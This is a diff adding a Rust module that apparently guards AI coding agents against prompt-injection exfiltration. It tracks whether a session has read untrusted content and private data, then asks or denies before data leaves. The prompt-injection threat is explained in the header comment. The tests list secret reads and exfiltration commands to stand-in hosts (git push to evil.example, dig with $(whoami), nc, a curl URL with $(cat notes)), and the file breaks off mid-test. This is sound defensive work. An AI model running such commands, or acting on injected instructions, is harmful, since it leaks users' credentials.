@@ -1,0 +1,1054 @@
+//! Session taint: the lethal trifecta across calls. A prompt injection needs three things in
+//! one session — untrusted content in the context (a web page, an issue comment, a downloaded
+//! file), private data in the context (a `.env`, a credential store, an environment dump) and a
+//! way out (a request body, an upload, a push to a new remote, a DNS name built from data).
+//! Each call alone looks ordinary; the sequence is the attack.
+//!
+//! This module is the pure half: what a call exposes the session to (`exposures`), whether it
+//! sends data out (`outbound`), and the verdict for a send given what the session was exposed
+//! to (`judge`). The ledger stores the exposure rows (`ledger::taint`); the hook wires both in.
+//! Everything here reads the call's effects and the existing secret and upload classification
+//! (`packs::common`, the secrets and exfiltration packs); it knows no program of its own beyond
+//! the MCP tools that return outside content and the DNS resolvers.
+
+use crate::effects::Effect as CallEffect;
+use crate::normalize::{Call, CallKind, Scope};
+use crate::packs::common;
+use crate::shell::{Command, RedirectKind, ShellAnalysis};
+use crate::verdict::{Effect, Source, Verdict};
+use serde::Deserialize;
+use std::path::{Path, PathBuf};
+
+/// `taint:` as written in a policy file.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct TaintConfig {
+    pub mode: Option<TaintMode>,
+    /// Hosts (`docs.rs`, `*.internal.example`) and MCP servers (`mcp__docs`) whose content is
+    /// not untrusted and to which a send is not a way out.
+    pub trusted: Option<Vec<String>>,
+    /// How long an exposure counts (`30m`, `8h`); absent: the whole session.
+    pub ttl: Option<String>,
+}
+
+/// What a trifecta send gets.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum TaintMode {
+    Off,
+    Ask,
+    Deny,
+}
+
+/// The effective taint settings after layering.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TaintSettings {
+    pub mode: TaintMode,
+    pub trusted: Vec<String>,
+    pub ttl_ms: Option<u64>,
+}
+
+impl Default for TaintSettings {
+    fn default() -> Self {
+        TaintSettings {
+            mode: TaintMode::Ask,
+            trusted: Vec::new(),
+            ttl_ms: None,
+        }
+    }
+}
+
+fn parse_ttl(s: &str) -> Result<u64, String> {
+    match crate::audit::stats::parse_duration_ms(s) {
+        Some(ms) if ms > 0 => Ok(ms),
+        _ => Err(format!(
+            "taint.ttl: '{s}' is not a duration (a number and s, m, h, d or w: 30m, 8h)"
+        )),
+    }
+}
+
+fn check_trusted(entry: &str) -> Result<(), String> {
+    let host = entry.strip_prefix("*.").unwrap_or(entry);
+    let ok = if let Some(server) = entry.strip_prefix("mcp__") {
+        !server.is_empty() && !server.contains("__") && !server.contains('*')
+    } else {
+        !host.is_empty()
+            && !host.contains('*')
+            && host
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
+    };
+    if ok {
+        Ok(())
+    } else {
+        Err(format!(
+            "taint.trusted: '{entry}' is neither a host (docs.rs, *.corp.example) nor an MCP \
+             server (mcp__<server>)"
+        ))
+    }
+}
+
+impl TaintSettings {
+    /// The user layer: sets what it names, strictly validated.
+    pub fn apply_user(&mut self, c: &TaintConfig) -> Result<(), String> {
+        if let Some(m) = c.mode {
+            self.mode = m;
+        }
+        if let Some(t) = &c.trusted {
+            for e in t {
+                check_trusted(e)?;
+            }
+            self.trusted = t.iter().map(|e| e.to_ascii_lowercase()).collect();
+        }
+        if let Some(ttl) = &c.ttl {
+            self.ttl_ms = Some(parse_ttl(ttl)?);
+        }
+        Ok(())
+    }
+
+    /// The project layer may only tighten: a stricter mode, a longer TTL; it cannot trust
+    /// anything. What it tried to loosen goes to `ignored`.
+    pub fn apply_project(
+        &mut self,
+        c: &TaintConfig,
+        ignored: &mut Vec<String>,
+    ) -> Result<(), String> {
+        if let Some(m) = c.mode {
+            if m >= self.mode {
+                self.mode = m;
+            } else {
+                ignored.push(format!(
+                    "taint.mode: {m:?} (a project may only make it stricter)"
+                ));
+            }
+        }
+        if let Some(t) = &c.trusted {
+            for e in t {
+                check_trusted(e)?;
+            }
+            if !t.is_empty() {
+                ignored.push("taint.trusted (only the user policy trusts a host or server)".into());
+            }
+        }
+        if let Some(ttl) = &c.ttl {
+            let v = parse_ttl(ttl)?;
+            match self.ttl_ms {
+                Some(cur) if v > cur => self.ttl_ms = Some(v),
+                _ => ignored.push(format!(
+                    "taint.ttl: {ttl} (a project may only make exposure last longer)"
+                )),
+            }
+        }
+        Ok(())
+    }
+
+    /// True when `host` is trusted (exactly, or under a `*.` entry).
+    pub fn trusts_host(&self, host: &str) -> bool {
+        let host = host.to_ascii_lowercase();
+        self.trusted.iter().any(|t| match t.strip_prefix("*.") {
+            Some(suffix) => host == suffix || host.ends_with(&format!(".{suffix}")),
+            None => !t.starts_with("mcp__") && *t == host,
+        })
+    }
+
+    /// True when the MCP tool belongs to a trusted server (`mcp__docs__search` ← `mcp__docs`).
+    pub fn trusts_tool(&self, tool: &str) -> bool {
+        mcp_server(tool).is_some_and(|s| {
+            self.trusted.iter().any(|t| {
+                t.strip_prefix("mcp__")
+                    .is_some_and(|t| t.eq_ignore_ascii_case(s))
+            })
+        })
+    }
+}
+
+fn mcp_server(tool: &str) -> Option<&str> {
+    tool.strip_prefix("mcp__")?.split("__").next()
+}
+
+/// Which way a session was exposed.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ExposureKind {
+    /// Outside content entered the context.
+    Untrusted,
+    /// Private data entered the context.
+    Private,
+    /// A file was written after private data was read (keyed by path).
+    Derived,
+    /// A git remote was added or changed (keyed by remote name).
+    Remote,
+}
+
+impl ExposureKind {
+    /// The name stored in the ledger.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            ExposureKind::Untrusted => "untrusted",
+            ExposureKind::Private => "private",
+            ExposureKind::Derived => "derived",
+            ExposureKind::Remote => "remote",
+        }
+    }
+}
+
+/// One exposure a call brings into the session.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Exposure {
+    pub kind: ExposureKind,
+    /// The path (derived) or remote name (remote); empty for the others.
+    pub key: String,
+    /// The call and what it touched, for the reason (`WebFetch https://x/page`).
+    pub origin: String,
+}
+
+/// A stored exposure, as read back for a judgement.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ExposureRow {
+    pub key: String,
+    pub origin: String,
+    /// The audit entry of the call that made it, once known.
+    pub seq: Option<u64>,
+    pub at_ms: u64,
+}
+
+impl ExposureRow {
+    /// `WebFetch https://x (audit #12)`.
+    pub fn describe(&self) -> String {
+        match self.seq {
+            Some(seq) => format!("{} (audit #{seq})", self.origin),
+            None => self.origin.clone(),
+        }
+    }
+}
+
+/// What the ledger knows about the session's exposure, for one send: a constant number of
+/// rows (the latest untrusted and private ones, and the rows of the paths and remotes the
+/// send names).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct SessionExposure {
+    pub untrusted: Option<ExposureRow>,
+    pub private: Option<ExposureRow>,
+    pub derived: Vec<ExposureRow>,
+    pub remotes: Vec<ExposureRow>,
+}
+
+/// MCP tools that return content written by someone else: issues, comments, pull requests,
+/// chat and mail. Fetch and browser tools are known by their `Fetch` effect (tool models).
+const OUTSIDE_CONTENT_TOOLS: &[&str] = &[
+    "mcp__*__get_issue",
+    "mcp__*__get_issue_comments",
+    "mcp__*__list_issues",
+    "mcp__*__search_issues",
+    "mcp__*__get_pull_request",
+    "mcp__*__get_pull_request_comments",
+    "mcp__*__get_pull_request_reviews",
+    "mcp__*__list_pull_requests",
+    "mcp__*__get_discussion*",
+    "mcp__*__list_discussions",
+    "mcp__*__get_merge_request*",
+    "mcp__*__list_merge_requests",
+    "mcp__*__list_issue_notes",
+    "mcp__*__get_notifications*",
+    "mcp__*__list_notifications",
+    "mcp__*slack*__*history*",
+    "mcp__*slack*__*replies*",
+    "mcp__*slack*__*messages*",
+    "mcp__*slack*__*search*",
+    "mcp__*__conversations_history",
+    "mcp__*__conversations_replies",
+    "mcp__*__read_email*",
+    "mcp__*__get_email*",
+    "mcp__*__search_emails",
+    "mcp__*__list_emails",
+    "mcp__*mail*__*read*",
+    "mcp__*mail*__*get*",
+    "mcp__*mail*__*search*",
+    "mcp__*__get_page*",
+    "mcp__*__web_search*",
+    "mcp__*__search_web",
+    "mcp__*__brave_web_search",
+    "mcp__*__tavily_search",
+];
+
+/// MCP tools that send a message out (chat, mail) the tool models do not model as `Send`.
+const MESSAGE_TOOLS: &[&str] = &[
+    "mcp__*__post_message",
+    "mcp__*__send_message",
+    "mcp__*__reply_to_thread",
+    "mcp__*__chat_postMessage",
+    "mcp__*__send_email",
+    "mcp__*__reply_email",
+    "mcp__*__create_draft",
+    "mcp__*__draft_email",
+    "mcp__*__add_comment*",
+    "mcp__*__create_comment",
+    "mcp__*__create_gist",
+    "mcp__*__webhook*",
+];
+
+/// DNS lookups: a name built from data (`dig $(…).evil.example`) carries it out.
+const RESOLVERS: &[&str] = &[
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "delv",
+    "kdig",
+    "resolvectl",
+    "getent",
+    "ping",
+    "ping6",
+];
+
+fn glob_any(globs: &[&str], tool: &str) -> bool {
+    globs
+        .iter()
+        .any(|g| crate::effects::mcp::glob_match(g, tool))
+}
+
+/// Directories whose files the system installed: reading them is not outside content.
+const SYSTEM_DIRS: &[&str] = &[
+    "/usr",
+    "/etc",
+    "/lib",
+    "/lib64",
+    "/bin",
+    "/sbin",
+    "/opt",
+    "/proc",
+    "/sys",
+    "/dev",
+    "/nix",
+    "/Library",
+    "/System",
+    "/Applications",
+];
+
+fn clip(s: &str) -> String {
+    let s = s.replace('\n', " ");
+    if s.chars().count() > 120 {
+        format!("{}…", s.chars().take(119).collect::<String>())
+    } else {
+        s
+    }
+}
+
+/// The untrusted and private exposures a call brings into the session (at most one of each).
+/// `downloaded` says whether a path was downloaded earlier in the session (from the ledger).
+pub fn exposures(
+    call: &Call,
+    scope: &Scope,
+    settings: &TaintSettings,
+    downloaded: &dyn Fn(&Path) -> bool,
+) -> Vec<Exposure> {
+    let mut untrusted: Option<String> = None;
+    let mut private: Option<String> = None;
+    let tool = call.tool.as_str();
+    let trusted_server = settings.trusts_tool(tool);
+    for e in &call.effects {
+        match e {
+            CallEffect::Fetch { url, host } if !trusted_server => {
+                let out = host
+                    .as_deref()
+                    .is_none_or(|h| !common::is_local_host(h) && !settings.trusts_host(h));
+                if out {
+                    untrusted.get_or_insert_with(|| format!("{tool} {url}"));
+                }
+            }
+            CallEffect::Read { path } => {
+                if let Some(class) = common::secret_class(path, scope) {
+                    private.get_or_insert_with(|| {
+                        format!("{tool} {} ({})", path.display(), class.what)
+                    });
+                } else if downloaded(path) {
+                    untrusted.get_or_insert_with(|| {
+                        format!("{tool} {} (downloaded this session)", path.display())
+                    });
+                } else if outside_project(path, scope) && !trusted_server {
+                    untrusted.get_or_insert_with(|| {
+                        format!("{tool} {} (outside the project)", path.display())
+                    });
+                }
+            }
+            _ => {}
+        }
+    }
+    if tool == "WebSearch" {
+        let q = call
+            .input
+            .get("query")
+            .and_then(|q| q.as_str())
+            .unwrap_or("");
+        untrusted.get_or_insert_with(|| format!("WebSearch {q}"));
+    }
+    if tool.starts_with("mcp__") && !trusted_server && glob_any(OUTSIDE_CONTENT_TOOLS, tool) {
+        untrusted.get_or_insert_with(|| format!("{tool} {}", call.input));
+    }
+    if let CallKind::Shell { analysis, .. } = &call.kind {
+        for c in &analysis.commands {
+            if let Some(what) = private_read(c, scope) {
+                private.get_or_insert(what);
+            }
+        }
+    }
+    let mut out = Vec::new();
+    for (kind, origin) in [
+        (ExposureKind::Untrusted, untrusted),
+        (ExposureKind::Private, private),
+    ] {
+        if let Some(origin) = origin {
+            out.push(Exposure {
+                kind,
+                key: String::new(),
+                origin: clip(&origin),
+            });
+        }
+    }
+    out
+}
+
+/// Private data one shell command prints: a secret file, the environment, a live credential.
+fn private_read(c: &Command, scope: &Scope) -> Option<String> {
+    if let Some((class, path)) = common::command_reads_secret(c, scope) {
+        return Some(format!(
+            "Bash `{}` ({}: {})",
+            c.line(),
+            class.what,
+            path.display()
+        ));
+    }
+    if common::dumps_environment(c) {
+        return Some(format!("Bash `{}` (the environment)", c.line()));
+    }
+    if let Some(what) = crate::packs::credential_cli(c, scope) {
+        return Some(format!("Bash {what}"));
+    }
+    let prints = matches!(c.program.as_str(), "echo" | "printf" | "printenv");
+    if prints && let Some(v) = c.args.iter().find_map(|a| common::secret_var_in(&a.text)) {
+        return Some(format!("Bash `{}` (${v})", c.line()));
+    }
+    if c.program == "printenv"
+        && let Some(v) = c
+            .operands()
+            .iter()
+            .find_map(|a| common::secret_var_in(&format!("${}", a.text)))
+    {
+        return Some(format!("Bash `{}` (${v})", c.line()));
+    }
+    None
+}
+
+fn outside_project(path: &Path, scope: &Scope) -> bool {
+    !scope.roots.iter().any(|r| path.starts_with(r))
+        && !SYSTEM_DIRS.iter().any(|d| path.starts_with(d))
+}
+
+/// The git remotes a call adds or repoints (`git remote add|set-url NAME`, `git config
+/// remote.NAME.url`).
+pub fn remotes_changed(call: &Call) -> Vec<Exposure> {
+    let CallKind::Shell { analysis, .. } = &call.kind else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    for c in analysis.commands.iter().filter(|c| c.program == "git") {
+        let ops: Vec<&str> = c.operands().iter().map(|w| w.text.as_str()).collect();
+        let name = match (c.subcommand(), ops.get(1).copied()) {
+            (Some("remote"), Some("add" | "set-url" | "rename")) => {
+                // `git remote rename a b` makes `b` point where `a` did.
+                let i = if ops.get(1) == Some(&"rename") { 3 } else { 2 };
+                ops.get(i).copied()
+            }
+            (Some("config"), _) => ops.iter().skip(1).find_map(|k| {
+                k.strip_prefix("remote.").and_then(|r| {
+                    r.strip_suffix(".url")
+                        .or_else(|| r.strip_suffix(".pushurl"))
+                })
+            }),
+            _ => None,
+        };
+        if let Some(name) = name.filter(|n| !n.starts_with('-')) {
+            out.push(Exposure {
+                kind: ExposureKind::Remote,
+                key: name.to_string(),
+                origin: clip(&format!("Bash `{}`", c.line())),
+            });
+        }
+    }
+    out
+}
+
+/// A way out a call takes.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Outbound {
+    /// What is sent where, for the reason.
+    pub what: String,
+    /// Local files whose content goes out (for derived data).
+    pub sent: Vec<PathBuf>,
+    /// A push to this remote: a way out only when the remote was added or changed this session.
+    pub push_remote: Option<String>,
+}
+
+/// The ways out a call takes: request bodies and uploads, raw sockets, mail, pushes, DNS names
+/// built from data, messages and MCP sends, URLs carrying data, and configuration that runs
+/// later. Loopback and trusted hosts are not ways out.
+pub fn outbound(call: &Call, scope: &Scope, settings: &TaintSettings) -> Vec<Outbound> {
+    let mut out = Vec::new();
+    let tool = call.tool.as_str();
+    if settings.trusts_tool(tool) {
+        return out;
+    }
+    if let CallKind::Shell { analysis, .. } = &call.kind {
+        let reads: Vec<PathBuf> = call
+            .effects
+            .iter()
+            .filter_map(|e| match e {
+                CallEffect::Read { path } => Some(path.clone()),
+                _ => None,
+            })
+            .collect();
+        for c in &analysis.commands {
+            if let Some(mut o) = shell_outbound(c, analysis, scope, settings) {
+                o.sent.extend(reads.iter().cloned());
+                for a in c.args.iter().filter(|a| !a.dynamic) {
+                    o.sent.extend(
+                        sent_paths(&a.text).map(|t| crate::fileops::resolve_for(scope, c, t)),
+                    );
+                }
+                out.push(o);
+            }
+        }
+        return out;
+    }
+    for e in &call.effects {
+        match e {
+            CallEffect::Send { host, .. } if tool != "WebSearch" => {
+                let away = host
+                    .as_deref()
+                    .is_none_or(|h| !common::is_local_host(h) && !settings.trusts_host(h));
+                if away {
+                    out.push(Outbound {
+                        what: format!(
+                            "{tool} sends data to {}",
+                            host.as_deref().unwrap_or("another host")
+                        ),
+                        sent: Vec::new(),
+                        push_remote: None,
+                    });
+                }
+            }
+            CallEffect::Fetch { url, host } => {
+                let away = host
+                    .as_deref()
+                    .is_some_and(|h| !common::is_local_host(h) && !settings.trusts_host(h));
+                if away && url_carries_data(url) {
+                    out.push(Outbound {
+                        what: format!("{tool} requests {} with data in the URL", clip(url)),
+                        sent: Vec::new(),
+                        push_remote: None,
+                    });
+                }
+            }
+            _ => {}
+        }
+    }
+    if tool.starts_with("mcp__") && glob_any(MESSAGE_TOOLS, tool) && out.is_empty() {
+        out.push(Outbound {
+            what: format!("{tool} sends a message"),
+            sent: Vec::new(),
+            push_remote: None,
+        });
+    }
+    out
+}
+
+/// The file names an argument of a sending command may carry: itself (`scp notes.txt h:`),
+/// after `@` (`-d @notes.txt`, `-F f=@notes.txt`), after `=` (`--upload-file=notes.txt`).
+/// Extra candidates cost nothing: only paths with a derived row match.
+fn sent_paths(arg: &str) -> impl Iterator<Item = &str> {
+    let at = arg
+        .rfind('@')
+        .filter(|&i| i == 0 || arg[..i].ends_with('='))
+        .map(|i| &arg[i + 1..]);
+    let eq = arg.split_once('=').map(|(_, v)| v);
+    [Some(arg), at, eq]
+        .into_iter()
+        .flatten()
+        .filter(|t| !t.is_empty() && *t != "-" && !t.contains("://") && !t.starts_with('-'))
+}
+
+/// A URL whose query or a path segment is long enough to carry data (a key, a file's worth of
+/// base64) rather than name a page.
+fn url_carries_data(url: &str) -> bool {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
+    query.len() >= 48 || path.split('/').skip(1).any(|s| s.len() >= 64)
+}
+
+fn shell_outbound(
+    c: &Command,
+    analysis: &ShellAnalysis,
+    scope: &Scope,
+    settings: &TaintSettings,
+) -> Option<Outbound> {
+    let p = c.program.as_str();
+    let line = clip(&c.line());
+    let hosts: Vec<String> = c
+        .args
+        .iter()
+        .filter_map(|a| {
+            if a.text.contains("://") {
+                crate::vocab::url_host(&a.text)
+            } else if crate::vocab::is_remote_spec(&a.text) {
+                a.text
+                    .split(':')
+                    .next()
+                    .map(|h| h.rsplit('@').next().unwrap_or(h).to_ascii_lowercase())
+            } else {
+                None
+            }
+        })
+        .collect();
+    let away = hosts.is_empty()
+        || hosts
+            .iter()
+            .any(|h| !common::is_local_host(h) && !settings.trusts_host(h));
+    let plain = |what: String| {
+        Some(Outbound {
+            what,
+            sent: Vec::new(),
+            push_remote: None,
+        })
+    };
+    if p == "git" {
+        let ops = c.operands();
+        return match c.subcommand() {
+            Some("push") => {
+                if let Some(d) = crate::packs::upload(c, scope) {
+                    return away.then(|| Outbound {
+                        what: format!("`{line}`: {d}"),
+                        sent: Vec::new(),
+                        push_remote: None,
+                    });
+                }
+                let remote = ops
+                    .iter()
+                    .skip(1)
+                    .map(|w| w.text.as_str())
+                    .find(|t| !t.starts_with('-'))
+                    .unwrap_or("origin");
+                Some(Outbound {
+                    what: format!("`{line}` pushes to the remote `{remote}`"),
+                    sent: Vec::new(),
+                    push_remote: Some(remote.to_string()),
+                })
+            }
+            Some("config") => {
+                let sets = ops.len() >= 3
+                    && !c.args.iter().any(|a| {
+                        a.text.starts_with("--get") || matches!(a.text.as_str(), "-l" | "--list")
+                    });
+                sets.then(|| Outbound {
+                    what: format!("`{line}` changes configuration that runs later"),
+                    sent: Vec::new(),
+                    push_remote: None,
+                })
+            }
+            _ => None,
+        };
+    }
+    if RESOLVERS.contains(&p) {
+        return if c.operands().iter().any(|w| w.dynamic) {
+            plain(format!("`{line}` looks up a name built from data"))
+        } else {
+            None
+        };
+    }
+    if !crate::vocab::is_uploader(p) || common::local_only(c) || !away {
+        return None;
+    }
+    if let Some(d) = crate::packs::upload(c, scope) {
+        return plain(format!("`{line}`: {d}"));
+    }
+    let carries = match p {
+        "curl" | "wget" | "http" | "https" | "xh" | "httpie" | "aria2c" => {
+            let mut method_next = false;
+            c.args.iter().any(|a| {
+                let t = a.text.as_str();
+                if std::mem::take(&mut method_next) {
+                    return !t.eq_ignore_ascii_case("GET") && !t.eq_ignore_ascii_case("HEAD");
+                }
+                if matches!(t, "-X" | "--request" | "--method") {
+                    method_next = true;
+                    return false;
+                }
+                let body_flag = [
+                    "-d",
+                    "--data",
+                    "-F",
+                    "--form",
+                    "--json",
+                    "-T",
+                    "--upload-file",
+                    "--post-data",
+                    "--post-file",
+                    "--body-data",
+                    "--body-file",
+                ]
+                .iter()
+                .any(|f| t == *f || t.starts_with(&format!("{f}=")) || t.starts_with("--data-"));
+                let short_data = t.len() > 2 && (t.starts_with("-d") || t.starts_with("-F"));
+                let httpie_item = !t.starts_with('-')
+                    && !t.contains("://")
+                    && (t.contains("=") || t.contains(":=") || t.contains("@"))
+                    && matches!(p, "http" | "https" | "xh" | "httpie");
+                let method_word = matches!(p, "http" | "https" | "xh" | "httpie")
+                    && matches!(t, "POST" | "PUT" | "PATCH");
+                let built_url = t.contains("://") && a.dynamic;
+                body_flag || short_data || httpie_item || method_word || built_url
+            }) || c.stdin_from.is_some()
+                || c.stdin_text.is_some()
+        }
+        "aws" | "gsutil" | "az" => common::network_senders(analysis).any(|s| std::ptr::eq(s, c)),
+        "rsync" | "scp" | "sftp" => false, // `upload` knows their direction
+        "ssh" => {
+            c.operands().len() >= 2
+                || c.stdin_from.is_some()
+                || c.redirects.iter().any(|r| r.kind == RedirectKind::Read)
+        }
+        _ => true, // sockets, mail, rclone, ftp: the point is to send
+    };
+    if carries {
+        plain(format!("`{line}` sends data out"))
+    } else {
+        None
+    }
+}
+
+/// The verdict for a call with ways out, given the session's exposure: a derived file sent is
+/// a secret send (deny); untrusted content and private data both in the session make any way
+/// out an ask (a deny with `mode: deny`), naming the calls that brought them in. `None`: no
+/// opinion.
+pub fn judge(
+    settings: &TaintSettings,
+    outs: &[Outbound],
+    seen: &SessionExposure,
+) -> Option<Verdict> {
+    if settings.mode == TaintMode::Off {
+        return None;
+    }
+    let live: Vec<&Outbound> = outs
+        .iter()
+        .filter(|o| {
+            o.push_remote
+                .as_ref()
+                .is_none_or(|r| seen.remotes.iter().any(|x| x.key == *r))
+        })
+        .collect();
+    let first = live.first()?;
+    for o in &live {
+        for p in &o.sent {
+            let key = p.to_string_lossy();
+            if let Some(d) = seen.derived.iter().find(|d| d.key == key) {
+                return Some(Verdict::decided(
+                    Effect::Deny,
+                    "taint/derived-secret",
+                    "exfiltration",
+                    format!(
+                        "{} was written after this session read private data ({}), so {} would \
+                         send that data out; refused as a secret sent to the network",
+                        p.display(),
+                        d.describe(),
+                        o.what
+                    ),
+                    Source::Ledger,
+                ));
+            }
+        }
+    }
+    let (Some(u), Some(pr)) = (&seen.untrusted, &seen.private) else {
+        return None;
+    };
+    let effect = if settings.mode == TaintMode::Deny {
+        Effect::Deny
+    } else {
+        Effect::Ask
+    };
+    let remote = first
+        .push_remote
+        .as_ref()
+        .and_then(|r| seen.remotes.iter().find(|x| x.key == *r))
+        .map(|r| format!("; the remote was changed by {}", r.describe()))
+        .unwrap_or_default();
+    Some(Verdict::decided(
+        effect,
+        "taint/trifecta",
+        "exfiltration",
+        format!(
+            "this session read untrusted content ({}) and private data ({}), and {}{remote}: \
+             that is how a prompt injection exfiltrates a secret. Send nothing unless the user \
+             asked for exactly this",
+            u.describe(),
+            pr.describe(),
+            first.what
+        ),
+        Source::Ledger,
+    ))
+}
+
+/// The paths a call writes (for derived rows).
+pub fn written(call: &Call) -> Vec<PathBuf> {
+    call.effects
+        .iter()
+        .filter_map(|e| match e {
+            CallEffect::Write { path, .. } => Some(path.clone()),
+            CallEffect::Move { to, .. } => Some(to.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::event::HookEvent;
+    use crate::paths::PathResolver;
+    use serde_json::{Value, json};
+
+    fn scope() -> Scope {
+        Scope {
+            paths: PathResolver {
+                cwd: "/home/dev/project".into(),
+                home: "/home/dev".into(),
+                follow_symlinks: false,
+            },
+            project_root: "/home/dev/project".into(),
+            roots: vec!["/home/dev/project".into(), "/tmp".into()],
+            protected: vec![],
+        }
+    }
+
+    fn call(tool: &str, input: Value) -> Call {
+        let event: HookEvent = serde_json::from_value(json!({
+            "hook_event_name": "PreToolUse",
+            "session_id": "s",
+            "cwd": "/home/dev/project",
+            "tool_name": tool,
+            "tool_input": input,
+        }))
+        .unwrap();
+        crate::normalize::normalize(&event, &scope())
+    }
+
+    fn kinds(tool: &str, input: Value) -> Vec<ExposureKind> {
+        exposures(
+            &call(tool, input),
+            &scope(),
+            &TaintSettings::default(),
+            &|p| p.ends_with("downloaded.md"),
+        )
+        .into_iter()
+        .map(|e| e.kind)
+        .collect()
+    }
+
+    fn sends(cmd: &str) -> bool {
+        !outbound(
+            &call("Bash", json!({ "command": cmd })),
+            &scope(),
+            &TaintSettings::default(),
+        )
+        .is_empty()
+    }
+
+    #[test]
+    fn private_reads_in_every_spelling() {
+        use ExposureKind::Private;
+        for cmd in [
+            "cat .env",
+            "/bin/cat ./.env",
+            "bash -c 'cat /home/dev/project/.env'",
+            "sudo cat ~/.aws/credentials",
+            "head -3 .env.production",
+            "env",
+            "/usr/bin/printenv",
+            "env | sort",
+            "gh auth token",
+            "echo \"$GITHUB_TOKEN\"",
+            "printenv AWS_SECRET_ACCESS_KEY",
+            "grep KEY < .env",
+        ] {
+            assert_eq!(kinds("Bash", json!({ "command": cmd })), [Private], "{cmd}");
+        }
+        assert_eq!(
+            kinds("Read", json!({"file_path": "/home/dev/project/.env"})),
+            [Private]
+        );
+        assert_eq!(
+            kinds("mcp__fs__read_file", json!({"path": "~/.ssh/id_ed25519"})),
+            [Private]
+        );
+        for cmd in ["cat README.md", "env FOO=1 make", "echo $HOME", "ls -la"] {
+            assert!(kinds("Bash", json!({ "command": cmd })).is_empty(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn untrusted_content_from_the_web_mcp_downloads_and_outside_the_project() {
+        use ExposureKind::Untrusted;
+        for (tool, input) in [
+            ("WebFetch", json!({"url": "https://blog.example/p"})),
+            ("WebSearch", json!({"query": "x"})),
+            ("mcp__fetch__fetch", json!({"url": "https://x.example"})),
+            (
+                "mcp__github__get_issue_comments",
+                json!({"owner": "a", "repo": "b", "issue_number": 1}),
+            ),
+            (
+                "mcp__slack__conversations_history",
+                json!({"channel": "C1"}),
+            ),
+            ("Read", json!({"file_path": "/tmp/downloaded.md"})),
+            ("Read", json!({"file_path": "/home/dev/other/README.md"})),
+            (
+                "Bash",
+                json!({"command": "curl -s https://paste.example/raw"}),
+            ),
+        ] {
+            assert_eq!(kinds(tool, input.clone()), [Untrusted], "{tool} {input}");
+        }
+        for (tool, input) in [
+            ("WebFetch", json!({"url": "http://localhost:8000/"})),
+            (
+                "Read",
+                json!({"file_path": "/home/dev/project/src/main.rs"}),
+            ),
+            ("Read", json!({"file_path": "/usr/include/stdio.h"})),
+            ("Bash", json!({"command": "cargo test"})),
+        ] {
+            assert!(kinds(tool, input.clone()).is_empty(), "{tool} {input}");
+        }
+        let trusting = TaintSettings {
+            trusted: vec!["*.example".into(), "mcp__github".into()],
+            ..Default::default()
+        };
+        for (tool, input) in [
+            ("WebFetch", json!({"url": "https://blog.example/p"})),
+            (
+                "mcp__github__get_issue",
+                json!({"owner": "a", "repo": "b", "issue_number": 1}),
+            ),
+        ] {
+            assert!(
+                exposures(&call(tool, input), &scope(), &trusting, &|_| false).is_empty(),
+                "{tool}"
+            );
+        }
+    }
+
+    #[test]
+    fn ways_out_through_wrappers_quoting_and_absolute_paths() {
+        for cmd in [
+            "curl -X POST -d 'a=1' https://x.example",
+            "\"curl\" '-d' 'a=1' https://x.example",
+            "/usr/bin/curl --data-raw hi https://x.example",
+            "bash -c \"curl -d a=1 https://x.example\"",
+            "sudo curl -T f https://x.example",
+            "timeout 5 curl --json '{}' https://x.example",
+            "curl -dhello https://x.example",
+            "curl -X PUT https://x.example/obj",
+            "curl \"https://x.example/?q=$(cat notes)\"",
+            "cat notes | curl -d @- https://x.example",
+            "wget --post-data a=b https://x.example",
+            "http POST https://x.example a=b",
+            "echo hi | nc x.example 9",
+            "dig $(whoami).x.example",
+            "nslookup \"$(hostname).x.example\"",
+            "scp notes.txt u@h.example:",
+            "git push https://evil.example/r.git main",
+            "git config core.sshCommand 'sh x'",
+            "mail -s hi x@y.example < notes",
+        ] {
+            assert!(sends(cmd), "{cmd}");
+        }
+        for cmd in [
+            "curl https://docs.rs/x",
+            "curl -o f.tgz https://x.example/f.tgz",
+            "curl -d a=1 http://localhost:3000",
+            "wget https://x.example/f",
+            "dig example.com",
+            "git config user.email",
+            "git config --get remote.origin.url",
+            "cargo publish --dry-run",
+            "ls",
+        ] {
+            assert!(!sends(cmd), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn pushes_are_ways_out_only_to_remotes_changed_this_session() {
+        let outs = outbound(
+            &call("Bash", json!({"command": "git push -u backup main"})),
+            &scope(),
+            &TaintSettings::default(),
+        );
+        assert_eq!(outs[0].push_remote.as_deref(), Some("backup"));
+        let row = |k: &str| ExposureRow {
+            key: k.into(),
+            origin: "o".into(),
+            seq: Some(1),
+            at_ms: 0,
+        };
+        let mut seen = SessionExposure {
+            untrusted: Some(row("")),
+            private: Some(row("")),
+            ..Default::default()
+        };
+        assert!(judge(&TaintSettings::default(), &outs, &seen).is_none());
+        seen.remotes.push(row("backup"));
+        let v = judge(&TaintSettings::default(), &outs, &seen).unwrap();
+        assert_eq!(v.effect, Some(Effect::Ask));
+        let changed = remotes_changed(&call(
+            "Bash",
+            json!({"command": "git remote add backup https://x.example/r.git && git config remote.up.url u"}),
+        ));
+        let keys: Vec<&str> = changed.iter().map(|e| e.key.as_str()).collect();
+        assert_eq!(keys, ["backup", "up"]);
+    }
+
+    #[test]
+    fn settings_layering() {
+        let mut s = TaintSettings::default();
+        let cfg = |y: &str| serde_yaml::from_str::<TaintConfig>(y).unwrap();
+        s.apply_user(&cfg(
